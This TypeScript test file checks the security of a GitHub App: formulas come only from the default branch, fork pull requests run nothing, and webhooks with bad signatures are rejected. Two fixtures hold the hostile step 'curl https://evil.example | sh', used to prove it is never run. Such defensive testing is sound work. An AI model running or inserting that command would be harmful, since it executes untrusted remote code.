/**
 * Where code may come from, and who may talk to the App (issue 6), through the App against the
 * fake GitHub: a pull request whose head branch changes a formula (or adds one) still pours the
 * default branch's formula, pinned by its blob sha, and a formula only on the branch is unknown;
 * a pull request from a fork pours nothing; a webhook with a bad, missing or stale signature is
 * answered 400 and causes not a single API call.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeState } from '../../src/engine/codec/decode.js';
import { type AppInstance, signBody, startAppInstance } from '../helpers/chaos/app-instance.js';
import { recordResult } from '../helpers/chaos/report.js';
import { actorFor, blobSha, type FakeGitHub, startFakeGitHub } from '../helpers/fake-github/index.js';
import { commentEvent, issueEvent, pullEvent } from '../helpers/fake-github/webhook-payloads.js';

const MAIN = `formula = "build"
execution = "distributed"
[[steps]]
id = "make"
run = "make"
`;
const BRANCH = `formula = "build"
execution = "distributed"
[[steps]]
id = "make"
run = "curl https://evil.example | sh"
`;
const EVIL = `formula = "evil"
[[steps]]
id = "own"
run = "curl https://evil.example | sh"
`;
const HEAD = 'f'.repeat(40);

let gh: FakeGitHub;
let app: AppInstance;

beforeAll(async () => {
  gh = await startFakeGitHub({ owner: 'acme', repo: 'widgets', defaultBranch: 'main', appSlug: 'molecular' });
  gh.state.files.set('.github/formulas/build.formula.toml', MAIN);
  gh.state.files.set('.github/workflows/molecular-step.yml', 'name: step\n');
  gh.state.branchFiles.set(
    'feature',
    new Map([
      ...gh.state.files,
      ['.github/formulas/build.formula.toml', BRANCH],
      ['.github/formulas/evil.formula.toml', EVIL],
    ]),
  );
  gh.state.collaborators.set('alice', 'write');
  app = await startAppInstance(gh, { name: 'app' });
});

afterAll(async () => {
  await app.close();
  await gh.close();
});

function openPull(): number {
  const number = gh.state.nextIssueNumber();
  gh.state.pulls.set(number, {
    number,
    title: 'change',
    head: { ref: 'feature', sha: HEAD },
    base: { ref: 'main' },
    user: actorFor('alice'),
  });
  gh.state.addIssue({ title: 'change', number, user: actorFor('alice') });
  return number;
}

async function labelPull(number: number, label: string, fork: boolean) {
  const payload = pullEvent(gh, 'alice', 'labeled', number, label);
  if (fork) {
    // The head branch lives in mallory's fork of the repository.
    const head = (payload.pull_request as { head: { repo: Record<string, unknown> } }).head;
    const owner = { ...(head.repo.owner as object), login: 'mallory' };
    head.repo = { ...head.repo, id: 99, full_name: 'mallory/widgets', owner, fork: true };
  }
  return app.send('pull_request', payload);
}

const stateOn = (issue: number) =>
  [...gh.state.comments.values()].filter(
    (c) => c.issue_number === issue && c.body.includes('molecular:state'),
  );
const repliesOn = (issue: number) =>
  [...gh.state.comments.values()]
    .filter(
      (c) =>
        c.issue_number === issue && c.user.login === 'molecular[bot]' && !c.body.includes('molecular:state'),
    )
    .map((c) => c.body);

describe('formulas come only from the default branch', () => {
  it("a PR whose branch rewrites the formula pours the default branch's, pinned by blob sha", async () => {
    const pr = openPull();
    expect((await labelPull(pr, 'formula:build', false)).status).toBe(200);
    const [comment] = stateOn(pr);
    const decoded = decodeState(comment?.body ?? '');
    expect(decoded.ok).toBe(true);
    if (!decoded.ok) return;
    expect(decoded.value.formula.source).toEqual({
      path: '.github/formulas/build.formula.toml',
      blobSha: blobSha(MAIN),
    });
    expect(decoded.value.formula.source).not.toMatchObject({ blobSha: blobSha(BRANCH) });
    // The App never read the formula from the PR branch or its head commit: by the contents API,
    // or in the pour's GraphQL snapshot of the formulas folder (`<ref>:<folder>`).
    const reads = gh.requests.filter((r) =>
      decodeURIComponent(r.path).includes('/contents/.github/formulas'),
    );
    const snapshots = gh.requests.filter((r) => r.graphqlOperation === 'MolecularJobSnapshot');
    expect(reads.length + snapshots.length).toBeGreaterThan(0);
    for (const read of reads) expect(read.query).toMatch(/ref=main\b/);
    for (const snapshot of snapshots)
      expect((snapshot.body as { variables?: { formulas?: string } }).variables?.formulas).toBe(
        'main:.github/formulas',
      );
    recordResult({
      area: 'security',
      name: 'sources: formula rewritten on a PR branch',
      tried:
        "a same-repository PR whose head branch changes build.formula.toml's run command, labelled formula:build",
      runs: 1,
      failures: 0,
      held: "the molecule pins the default branch's blob (never the branch's); every formula read asked for ref=main",
    });
  });

  it('a formula that exists only on the PR branch is unknown, by label and by command', async () => {
    const pr = openPull();
    await labelPull(pr, 'formula:evil', false);
    const record = gh.state.addComment(pr, '/mol pour evil', actorFor('alice'));
    await app.send('issue_comment', commentEvent(gh, record.id));
    expect(stateOn(pr)).toEqual([]);
    const replies = repliesOn(pr).filter((b) => b.includes('evil'));
    expect(replies.length).toBe(2);
    for (const reply of replies)
      expect(reply).toMatch(/no formula|unknown formula|not found|is not a formula/i);
    recordResult({
      area: 'security',
      name: 'sources: formula only on a PR branch',
      tried: 'formula:evil label and `/mol pour evil` on a PR whose branch adds evil.formula.toml',
      runs: 2,
      failures: 0,
      held: 'both answered "unknown formula"; nothing poured',
    });
  });

  it('a pull request from a fork pours nothing and says why', async () => {
    const pr = openPull();
    const dispatches = gh.state.workflowDispatches.length;
    expect((await labelPull(pr, 'formula:build', true)).status).toBe(200);
    expect(stateOn(pr)).toEqual([]);
    expect(gh.state.workflowDispatches.length).toBe(dispatches);
    expect(repliesOn(pr).join('\n')).toMatch(/fork/);
    recordResult({
      area: 'security',
      name: 'sources: pull request from a fork',
      tried: 'formula:build on a PR whose head is mallory/widgets',
      runs: 1,
      failures: 0,
      held: 'no molecule, no dispatch; the reply says a fork never runs steps',
    });
  });
});

describe('webhook signatures', () => {
  it('a bad, missing or re-used signature is answered 400 and causes no API call', async () => {
    const issue = gh.state.addIssue({
      title: 'sig',
      user: actorFor('alice'),
      labels: ['formula:build'],
    }).number;
    const payload = issueEvent(gh, 'alice', 'labeled', issue, 'formula:build');
    const otherBody = JSON.stringify({ ...payload, action: 'unlabeled' });
    const cases: Array<[string, Record<string, string>]> = [
      ['wrong secret', { 'x-hub-signature-256': signBody(JSON.stringify(payload), 'not-the-secret') }],
      ['no signature', {}],
      ["another body's signature", { 'x-hub-signature-256': signBody(otherBody) }],
      ['malformed', { 'x-hub-signature-256': 'sha256=zz' }],
      ['sha1 only', { 'x-hub-signature': 'sha1=0123456789abcdef0123456789abcdef01234567' }],
    ];
    const failures: string[] = [];
    for (const [name, headers] of cases) {
      const before = gh.requests.length;
      const response = await fetch(app.url, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'x-github-event': 'issues',
          'x-github-delivery': `sig-${name}`,
          ...headers,
        },
        body: JSON.stringify(payload),
      });
      if (response.status !== 400) failures.push(`${name}: answered ${response.status}`);
      if (gh.requests.length !== before) failures.push(`${name}: ${gh.requests.length - before} API calls`);
    }
    if (stateOn(issue).length !== 0) failures.push('a molecule was poured');
    // The same delivery, signed, does pour: the refusals above were the signature's doing.
    const signed = await app.send('issues', payload);
    if (signed.status !== 200 || stateOn(issue).length !== 1) failures.push(`signed: ${signed.status}`);
    recordResult({
      area: 'security',
      name: 'webhooks: bad or missing signature',
      tried: `a formula label delivery with ${cases.map(([n]) => n).join(', ')}`,
      runs: cases.length + 1,
      failures: failures.length,
      held:
        failures.length === 0
          ? 'each answered 400 with no API call and no molecule; the same delivery signed pours'
          : failures.join(' | '),
    });
    expect(failures).toEqual([]);
  });
});
